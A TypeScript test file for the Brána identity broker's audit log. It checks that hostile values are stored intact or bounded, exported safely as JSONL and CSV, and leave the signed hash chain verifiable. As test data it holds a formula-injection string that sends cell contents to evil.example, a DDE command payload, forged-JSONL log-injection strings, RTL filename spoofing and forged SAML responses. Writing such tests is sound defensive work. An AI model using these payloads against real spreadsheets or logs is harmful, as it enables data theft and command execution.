import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createHash } from 'node:crypto';
import { AUDIT_STRING_MAX, type AuditRecord, type StoredAuditRecord } from '../../src/audit/assertion-log.ts';
import type { AuditTrail } from '../../src/audit/audit-trail.ts';
import { exportedRecords, sinkOf, writeExport } from '../../src/audit/export.ts';
import { verifyStoredLog } from '../../src/audit/verification.ts';
import { attribute } from '../../src/domain/attributes.ts';
import { recordsOfLogin } from '../support/audit.ts';
import { auditKeysDir, openTestTrail } from '../support/audit-trail.ts';
import { brana } from '../support/cli.ts';
import { BACKENDS, createTestDatabase, type TestDatabase } from '../support/databases.ts';
import { authnRequestIdOf, authorizationResponse, chooseMeans, decideConsent, loginAtIdp, postToAcs, redeemCode, startLogin } from '../support/login-driver.ts';
import { JAN_NOVAK, forgedResponse } from '../support/saml-forge.ts';
import { startTestBroker, type TestBroker } from '../support/test-broker.ts';

const RTL = '\u202E\u200F';
const HUGE = `${'ž'.repeat(50_000)}${RTL}${'x'.repeat(50_000)}`;
/** Values that have broken logs, spreadsheets and parsers elsewhere. */
const HOSTILE = {
  lines: 'first\r\nsecond\rthird\nfourth',
  quotes: `he said "hi" and 'bye' \\ \``,
  nul: 'before\u0000after',
  rtl: `${RTL}gnp.exe`,
  separators: 'a\u2028b\u2029c\u0085d',
  lone: 'half \uD800 a pair',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  plus: '+1-2',
  minus: '-2+3',
  at: '@SUM(1)',
  tab: '\tindented',
  apostrophe: "'quoted",
  fakeJsonl: '"}\n{"kind":"record","seq":1,"event":"token_issued"}',
  fakeCsv: '","\r\n"record","999","0"',
  huge: HUGE,
};

function hostileRecords(): AuditRecord[] {
  const records: AuditRecord[] = [];
  for (const [name, value] of Object.entries(HOSTILE)) {
    records.push({
      event: 'error',
      outcome: 'failure',
      sepId: value,
      requestId: value,
      means: value,
      pseudonym: value,
      loa: value,
      reason: value,
      detail: { name, value, nested: { [value.slice(0, 200)]: [value, null, 1.5] }, ['__proto__']: value, constructor: value },
    });
  }
  return records;
}

/**
 * What a stored record says of a written value: the value itself (in its column, or in
 * detail.intact where the column cannot hold it), or — beyond AUDIT_STRING_MAX characters — its
 * beginning, a marker and the SHA-256 of the whole value.
 */
function sameOrBounded(stored: unknown, written: unknown): void {
  if (typeof written === 'string' && written.length > AUDIT_STRING_MAX) {
    assert.equal(typeof stored, 'string');
    assert.ok((stored as string).length < AUDIT_STRING_MAX + 200, 'bounded');
    assert.ok((stored as string).includes(`sha256 ${createHash('sha256').update(written).digest('hex')}`), 'with the digest of the whole value');
    return;
  }
  if (written && typeof written === 'object') {
    for (const [key, item] of Object.entries(written)) sameOrBounded((stored as Record<string, unknown>)[key.length > 200 ? Object.keys(stored as object).find((k) => k.startsWith(key.slice(0, 100)))! : key], item);
    return;
  }
  assert.deepEqual(stored, written);
}

function assertIntact(stored: StoredAuditRecord, written: AuditRecord): void {
  if (stored.detail.truncated) {
    // A detail too large as a whole keeps its beginning and the digest of all of it.
    assert.match(String((stored.detail.truncated as { sha256: string }).sha256), /^[0-9a-f]{64}$/);
    return;
  }
  const intact = (stored.detail.intact ?? {}) as Record<string, string>;
  for (const [field, column] of [['sepId', 'sep_id'], ['requestId', 'request_id'], ['means', 'means'], ['pseudonym', 'pseudonym'], ['loa', 'loa'], ['reason', 'reason']] as const) {
    const value = written[field] as string;
    const shown = stored[field] as string;
    sameOrBounded(intact[column] ?? shown, value);
    if (intact[column] !== undefined) assert.ok(!shown.includes('\u0000') && shown.length <= 200, `${column} column stays storable`);
  }
  const { intact: _intact, ...detail } = stored.detail;
  sameOrBounded(JSON.parse(JSON.stringify(detail)), JSON.parse(JSON.stringify(written.detail)));
}

for (const backend of BACKENDS) {
  describe(`hostile values in the assertion log on ${backend}: stored and exported intact, the chain unbroken`, () => {
    let store: TestDatabase;
    let trail: AuditTrail;
    let dir: string;
    const written = hostileRecords();

    before(async () => {
      store = await createTestDatabase(backend);
      trail = await openTestTrail(store.db);
      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'brana-hostile-'));
      for (const record of written) await trail.log.append(record);
    });
    after(async () => {
      await trail.checkpoints.stop();
      await store.drop();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    it('stores every value (in its column, or in detail.intact where the column cannot hold it), a huge one bounded with its digest', async () => {
      const stored = await trail.log.query();
      assert.equal(stored.length, written.length);
      stored.forEach((record, i) => assertIntact(record, written[i]!));
      const huge = stored[Object.keys(HOSTILE).indexOf('huge')]!;
      assert.ok(huge.detail.truncated, 'a detail that big is kept as its beginning and digest');
      // One record with a 100,000-character value in every field: a few kB in the log, not 1 MB.
      const row = (await store.db('assertion_log').where({ seq: huge.seq }).first()) as Record<string, unknown>;
      const size = Object.values(row).reduce<number>((sum, value) => sum + Buffer.byteLength(String(value ?? '')), 0);
      assert.ok(size < 16 * 1024, `the stored record is ${size} bytes`);
      assert.equal(huge.reason!.length, 80);
      assert.ok(huge.reason!.endsWith('…'));
      const report = await verifyStoredLog(store.db, trail.keys.publicJwks, trail.seal);
      assert.equal(report.intact, true, JSON.stringify(report.problems));
    });

    for (const format of ['jsonl', 'csv'] as const) {
      it(`exports them as ${format} intact: no line or cell breaks out, formulas are neutralised, the file verifies`, async () => {
        const file = path.join(dir, `hostile.${format}`);
        const stream = fs.createWriteStream(file);
        const summary = await writeExport(store.db, trail.checkpoints, {}, format, sinkOf(stream));
        await new Promise<void>((resolve) => stream.end(resolve));
        assert.equal(summary.records, written.length);
        const { records } = await exportedRecords(file);
        assert.deepEqual(records, (await trail.log.query()).map(({ seq, at, event, sepId, requestId, means, pseudonym, loa, outcome, reason, detail, prevHash, hash, rid }) => ({ seq, at, event, sepId, requestId, means, pseudonym, loa, outcome, reason, detail, prevHash, hash, ...(rid ? { rid } : {}) })));
        const raw = fs.readFileSync(file, 'utf8');
        if (format === 'jsonl') {
          const lines = raw.split('\n').filter(Boolean);
          assert.equal(lines.length, 1 + written.length + 1, 'header, one line per record, the closing checkpoint');
          assert.ok(!/[\u2028\u2029\u0085\r]/.test(raw), 'no character a line reader would split on');
        } else {
          assert.ok(raw.includes(`"'=HYPERLINK(`), 'a formula cell starts with an apostrophe');
          assert.ok(raw.includes(`"'+1-2"`) && raw.includes(`"'-2+3"`) && raw.includes(`"'@SUM(1)"`) && raw.includes(`"'\tindented"`) && raw.includes(`"''quoted"`));
          assert.ok(!/(^|,)"[=+\-@\t\r]/m.test(raw), 'no cell starts with a formula character');
        }
        const keyFile = path.join(dir, 'public.json');
        fs.writeFileSync(keyFile, JSON.stringify(trail.keys.publicJwks));
        const verified = await brana(['audit', 'verify', '--file', file, '--public-key', keyFile], {});
        assert.equal(verified.code, 0, verified.stdout + verified.stderr);
        assert.equal(JSON.parse(verified.stdout).records, written.length);
      });
    }
  });
}

describe('hostile values arriving through a real login', () => {
  let brana_: TestBroker;
  let store: TestDatabase;
  before(async () => {
    // PostgreSQL, which refuses what SQLite would quietly store (over-long values, NUL).
    store = await createTestDatabase('postgres');
    brana_ = await startTestBroker({ databaseUrl: store.url });
  });
  after(async () => {
    await brana_.close();
    await store.drop();
  });

  it('keeps a hostile NameID intact and a 100 kB attribute value bounded (with its digest) where values are logged', async () => {
    const sep = await brana_.registerSep({ allowedAttributes: ['CurrentGivenName', 'CurrentFamilyName', 'DateOfBirth', 'eMail'] });
    const env = { DATABASE_URL: store.url, BRANA_KEYS_DIR: await auditKeysDir(), BRANA_MODE: 'development' };
    assert.equal((await brana(['sep', 'log-values', sep.clientId, 'on'], env)).code, 0);
    const nameId = `${RTL}jan"novak'<x>&amp;\n{"event":"token_issued"}`;
    // 100 kB in one attribute value: the encrypted, signed, base64 response stays under Brána's limit.
    const email = `${'x'.repeat(99_950)}${RTL}žluťoučký\n=cmd|' /C calc'!A0`;
    const started = await startLogin(brana_.url.origin, sep, { scope: 'openid profile email' });
    const idp = await loginAtIdp(started.citizen, await chooseMeans(started.citizen, started.response, 'eobcanka'), '100000001');
    const response = await forgedResponse(brana_, 'eobcanka', authnRequestIdOf(idp.sealedRequest), {
      subject: nameId,
      attributes: [...JAN_NOVAK, { name: attribute('eMail').samlName, values: [email] }],
    });
    const consent = await postToAcs(started.citizen, idp.acs, { SAMLResponse: response });
    const refusal = (await recordsOfLogin(brana_.broker, started.codeVerifier)).find((r) => r.event === 'error');
    assert.equal(consent.status, 200, `refused: ${refusal?.reason}`);
    const params = authorizationResponse(await decideConsent(started.citizen, consent, 'agree'), sep);
    assert.equal((await redeemCode(brana_.url.origin, sep, params.get('code')!, started.codeVerifier)).status, 200);

    const resolved = (await recordsOfLogin(brana_.broker, started.codeVerifier)).find((r) => r.event === 'identity_resolved')!;
    assert.equal(resolved.detail.subject, nameId);
    const logged = (resolved.detail.attributeValues as Record<string, string[]>).eMail!;
    assert.equal(logged.length, 1);
    assert.ok(logged[0]!.startsWith(email.slice(0, 500)) && logged[0]!.length < 700, 'bounded: one login cannot write 100 kB to the log');
    assert.ok(logged[0]!.endsWith(`sha256 ${createHash('sha256').update(email).digest('hex')}]`), 'the digest of the whole value');
    const report = await verifyStoredLog(brana_.broker.db, brana_.broker.audit.keys.publicJwks, brana_.broker.audit.seal);
    assert.equal(report.intact, true, JSON.stringify(report.problems));
  });

  it('keeps a hostile authorization parameter (NUL, CR/LF, quotes, RTL) intact in the request record', async () => {
    const sep = await brana_.registerSep();
    const hint = `no\u0000such\r\nmeans"'${RTL}`;
    const started = await startLogin(brana_.url.origin, sep, { idpHint: hint });
    assert.equal(started.response.status, 200, 'an unknown hint just shows the selection page');
    const received = (await recordsOfLogin(brana_.broker, started.codeVerifier)).find((r) => r.event === 'request_received')!;
    assert.equal(received.detail.idpHint, hint);
    assert.equal((await verifyStoredLog(brana_.broker.db, brana_.broker.audit.keys.publicJwks, brana_.broker.audit.seal)).intact, true);
  });

  it('records an upstream error whose status code is 100 kB long as a reason of the closed set, and writes none of it', async () => {
    const sep = await brana_.registerSep();
    const started = await startLogin(brana_.url.origin, sep, { scope: 'openid' });
    const idp = await loginAtIdp(started.citizen, await chooseMeans(started.citizen, started.response, 'eobcanka'), '100000001');
    const status = `urn:evil:${'A'.repeat(100_000)}${RTL}`;
    const response = await forgedResponse(brana_, 'eobcanka', authnRequestIdOf(idp.sealedRequest), { status: { code: 'urn:oasis:names:tc:SAML:2.0:status:Responder', second: status } });
    const page = await postToAcs(started.citizen, idp.acs, { SAMLResponse: response });
    assert.equal(page.status, 400, 'the citizen sees the login failure, not a server error');
    assert.match(page.text, /Poskytovatel identity vás nepřihlásil/);
    const error = (await recordsOfLogin(brana_.broker, started.codeVerifier)).find((r) => r.event === 'error')!;
    // An unknown second-level code: the record names the known top-level one, and nothing the answer wrote.
    assert.equal(error.reason, 'status_Responder');
    assert.ok(JSON.stringify(error).length < 1000, 'the record stays small');
    assert.ok(!JSON.stringify(error).includes('AAAAAAAAAA'));
    const monitor = (await brana_.broker.operators.issue('monitor', 'prometheus')).token;
    const { default: supertest } = await import('supertest');
    const metrics = (await supertest(brana_.url.origin).get('/metrics').set('Authorization', `Bearer ${monitor}`)).text;
    assert.ok(!metrics.includes('AAAAAAAAAA'), 'the hostile status is not a label');
  });
});
